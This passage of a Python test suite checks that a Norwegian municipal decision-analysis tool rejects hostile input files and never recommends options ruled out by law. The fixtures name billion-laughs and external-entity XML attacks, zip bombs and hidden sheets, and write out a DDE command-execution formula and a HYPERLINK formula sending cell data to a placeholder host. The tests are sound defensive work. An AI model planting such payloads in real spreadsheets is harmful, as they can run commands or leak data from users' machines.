        "xlsx: billion laughs (entity expansion)",
        "spreadsheet: damaged",
        built(hostile.billion_laughs()),
        "lonn",
        ("document type declaration", "without expanding"),
    ),
    Case(
        "xlsx: external entity reading /etc/passwd",
        "spreadsheet: damaged",
        built(hostile.external_entity()),
        "lonn",
        ("document type declaration",),
    ),
    Case(
        "xlsx: malformed styles.xml",
        "spreadsheet: damaged",
        built(hostile.styles(hostile.MALFORMED_STYLES)),
        "",
        ("styles.xml", "not well-formed"),
    ),
    Case(
        "xlsx: nonsense values in styles.xml",
        "spreadsheet: damaged",
        built(hostile.styles(hostile.NONSENSE_STYLES)),
        "",
        ("not a readable .xlsx workbook", "damaged"),
    ),
    Case(
        "xlsx: zip bomb",
        "spreadsheet: too large",
        built(hostile.zip_bomb(400)),
        "",
        ("unpacks to 400 MB", "at most 50 MB"),
    ),
    Case(
        "xlsx: zip bomb declaring a small size",
        "spreadsheet: too large",
        built(hostile.zip_bomb(400, lie=True)),
        "",
        ("cannot be unpacked", "Bad CRC"),
    ),
    Case(
        "xlsx: one cell at XFD1048576",
        "spreadsheet: too large",
        built(hostile.cell_at("XFD1048576")),
        "lonn",
        ("row 1 048 576", "at most 10 000 rows"),
    ),
    Case(
        "xlsx: declared range A1:XFD1048576",
        "spreadsheet: too large",
        built(hostile.cell_at("J300", dimension="A1:XFD1048576")),
        "lonn",
        ("used range A1:XFD1048576", "200 columns"),
    ),
    Case(
        "xlsx: 20 000 rows",
        "spreadsheet: too large",
        built(hostile.many_rows(20_000)),
        "lonn",
        ("row 10 001",),
    ),
    Case(
        "xlsx: a far cell spanning 2 million cells",
        "spreadsheet: too large",
        built(hostile.cell_at("GR10000", sheet="vekter_gains")),
        "vekter_gains",
        ("more than 250 000 cells",),
    ),
    Case(
        "xlsx: file larger than 50 MB",
        "spreadsheet: too large",
        sparse(50 * 2**20 + 1, "skaring.xlsx"),
        "",
        ("larger than the limit of 50.0 MB",),
    ),
    Case(
        "csv: file larger than 10 MB",
        "spreadsheet: too large",
        sparse(10 * 2**20 + 1, "lonn_strategy.csv"),
        "",
        ("larger than the limit of 10.0 MB",),
        route="csv",
    ),
    Case(
        "xlsx: hidden service sheet",
        "spreadsheet: hidden sheet",
        built(hostile.sheet_state("lonn", "hidden")),
        "lonn",
        ("'lonn' is hidden", "unhide"),
    ),
    Case(
        "xlsx: veryHidden meta sheet",
        "spreadsheet: hidden sheet",
        built(hostile.sheet_state("meta", "veryHidden")),
        "meta",
        ("'meta' is veryHidden",),
    ),
    Case(
        "xlsx: HYPERLINK formula as a rationale",
        "spreadsheet: formula injection",
        workbook(set_cells("lonn", G5='=HYPERLINK("https://example.invalid/?x="&D5,"info")')),
        "lonn!G5",
        ("a formula", "HYPERLINK", "not a formula"),
    ),
    Case(
        "xlsx: formula as the title",
        "spreadsheet: formula injection",
        workbook(set_cells("meta", C5="=1+1")),
        "meta!C5",
        ("a formula (=1+1)",),
    ),
    Case(
        "xlsx: DDE formula in a weight cell",
        "spreadsheet: formula injection",
        workbook(set_cells("vekter_strategy", C12="=cmd|' /C calc'!A0")),
        "vekter_strategy!C12",
        ("a formula",),
    ),
]
CASES += HOSTILE_XLSX_CASES


# -- the checks ---------------------------------------------------------------------------------


def _matches(location: str, expected: str) -> bool:
    if expected.endswith("*"):
        return location.startswith(expected[:-1])
    return location == expected


def _fingerprint(path: Path) -> tuple[str, int]:
    if not path.is_file():  # a FIFO, device or folder (HOSTILE_CASES): reading it would block
        return "", path.lstat().st_mtime_ns
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


def _brief_available() -> bool:
    from samvalg.commands import COMMANDS

    return "brief" in COMMANDS


def check_api(case: Case, path: Path) -> None:
    from samvalg import load_assessment
    from samvalg.errors import ValidationError
    from samvalg.io import read_csv

    with pytest.raises(ValidationError) as info:
        if case.route == "csv":
            read_csv(path, load_assessment(valid()), "lonn", "strategy")
        else:
            load_assessment(path)
    problems = info.value.problems
    assert all(p.source == path.name for p in problems), [str(p) for p in problems]
    found = [p for p in problems if _matches(p.location, case.location)]
    assert found, f"no problem at {case.location!r}; got {[str(p) for p in problems]}"
    texts = [f"{p.message} (allowed: {p.allowed})" for p in found]
    assert any(all(w in t for w in case.words) for t in texts), (case.words, texts)
    if case.n_problems is not None:
        assert len(problems) == case.n_problems, [str(p) for p in problems]


def check_cli(case: Case, path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from samvalg.cli import main

    commands = [["validate", str(path)], ["evaluate", str(path)]]
    if path.suffix == ".toml":  # cheap to load: every route (a workbook takes ~0.2 s a read)
        commands.append(["evaluate", "--json", str(path)])
    if _brief_available():
        commands.append(
            ["brief", "--assessment", str(path), "--out", str(path.parent / "brief_out")]
        )
    for argv in commands:
        code = main(argv)
        out, err = capsys.readouterr()
        assert code == 2, (argv, out, err)
        assert "Traceback" not in err
        lines = err.strip().splitlines()
        assert lines and all(line.startswith("samvalg: error: ") for line in lines), err
        assert path.name in err, err
        where = case.location.rstrip("*")
        assert any(where in line for line in lines), (where, err)
        if "--json" in argv:  # one JSON object with the same problems, nothing else
            import json

            record = json.loads(out)
            assert record["ok"] is False and record["exit_code"] == 2
            assert any(where in p["location"] for p in record["problems"]), (where, out)
        else:
            assert out == "", out  # nothing half-printed before the error
    assert not (path.parent / "brief_out").exists() or not any(
        (path.parent / "brief_out").iterdir()
    )


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = case.write(tmp_path)
    before = _fingerprint(path)
    listing = sorted(tmp_path.iterdir())
    check_api(case, path)
    if case.route == "file":
        check_cli(case, path, capsys)
    assert _fingerprint(path) == before, "the user's file was changed"
    assert sorted(p for p in tmp_path.iterdir() if p.name != "brief_out") == listing


def test_the_catalogue_is_large_and_covers_every_kind() -> None:
    assert len(CASES) >= 60
    assert len({c.id for c in CASES}) == len(CASES)
    required = {
        "malformed TOML",
        "empty file",
        "binary garbage",
        "non-UTF-8",
        "unknown top-level key",
        "unknown id",
        "host",
        "score value",
        "missing scores",
        "duplicate id",
        "negative weight",
        "weights sum to zero",
        "points total",
        "AHP",
        "ranking",
        "uncertainty",
        "single option",
        "spreadsheet: text in a number cell",
        "spreadsheet: merged cells",
        "spreadsheet: missing sheet",
    }
    assert required <= {c.kind for c in CASES}


def test_a_real_subprocess_prints_no_traceback(tmp_path: Path) -> None:
    """The installed entry point, not just ``main()``: exit 2, file and location, no traceback."""
    import subprocess

    path = CASES[0].write(tmp_path)
    proc = subprocess.run(
        [sys.executable, "-m", "samvalg.cli", "validate", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    assert f"{path.name}: line 3, column" in proc.stderr


def test_the_valid_file_passes_every_route(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The catalogue's base file is valid, so each case fails for its one mistake only."""
    from samvalg import load_assessment
    from samvalg.cli import main

    path = edited(lambda d: None)(tmp_path)
    load_assessment(path)
    assert main(["validate", str(path)]) == 0
    assert main(["evaluate", str(path)]) == 0
    capsys.readouterr()


# -- valid files whose answer is "nothing can be recommended" -----------------------------------


def _all_infeasible() -> Data:
    """byggesak with only forms the law rules out for it (public authority, KO/IKS)."""
    data = valid()
    only_options("byggesak", ["oppgavefellesskap", "iks"])(data)
    del data["services"]["lonn"]
    return data


def test_all_options_infeasible_is_a_clear_outcome_not_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Decision: a valid file whose options are all ruled out by law is evaluated (the finding
    is the answer), with no recommendation, every option flagged with its legal reason, and no
    view naming a best option. It is not a ValidationError: the file has no mistake."""
    import json

    import samvalg
    from samvalg.cli import main

    path = tmp_path / NAME
    path.write_text(to_toml(_all_infeasible()), encoding="utf-8")
    a = samvalg.load_assessment(path)
    for method in ("wsm", "wpm", "topsis", "vikor", "promethee_ii"):
        sev = samvalg.evaluate(a, method=method)["byggesak"]
        assert sev.recommendation is None
        assert sev.cooperate is None
        for opt, f in sev.feasibility.items():
            assert not f.ok, opt
            assert f.reasons and any("§" in r for r in f.reasons), f.reasons
        for view in sev.views.values():
            assert view.best is None and view.ties_at_top == ()
            assert not view.feasible.any()
        assert sev.to_dict()["recommendation"] is None
    assert main(["evaluate", str(path)]) == 0
    out = capsys.readouterr().out
    assert "ingen lovlige alternativer" in out
    assert out.count("juridisk utelukket") >= 2 and "✗" in out
    assert main(["evaluate", "--json", str(path)]) == 0
    assert json.loads(capsys.readouterr().out)["services"]["byggesak"]["recommendation"] is None


@pytest.mark.parametrize("method", ["wsm", "wpm", "topsis", "vikor", "promethee_ii"])
def test_an_infeasible_option_that_scores_best_is_never_ranked_first(method: str) -> None:
    """byggesak: oppgavefellesskap (ruled out) gets the top score on every criterion, yet every
    view ranks a feasible option first and never recommends it."""
    import samvalg

    data = valid()
    top = {c: 5 for c in (*STRATEGY, *GAINS)}
    data["services"]["byggesak"]["scores"]["oppgavefellesskap"] = {
        **top,
        **dict.fromkeys(MODEL, "++++"),
    }
    sev = samvalg.evaluate(samvalg.load_assessment(data), method=method)["byggesak"]
    assert not sev.feasibility["oppgavefellesskap"].ok
    assert sev.recommendation != "oppgavefellesskap"
    for view in sev.views.values():
        if "oppgavefellesskap" not in view.options:
            continue
        i = view.options.index("oppgavefellesskap")
        assert view.ranks[i] > int(view.feasible.sum()), (view.key, view.ranks)
        assert view.order[0] != "oppgavefellesskap"


def counts_by_kind() -> Counter[str]:
    return Counter(c.kind for c in CASES)


if __name__ == "__main__":
    counts = counts_by_kind()
    width = max(map(len, counts))
    for kind, n in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])):
        print(f"{kind:<{width}}  {n:>3}")
    print(f"{'total':<{width}}  {sum(counts.values()):>3}")
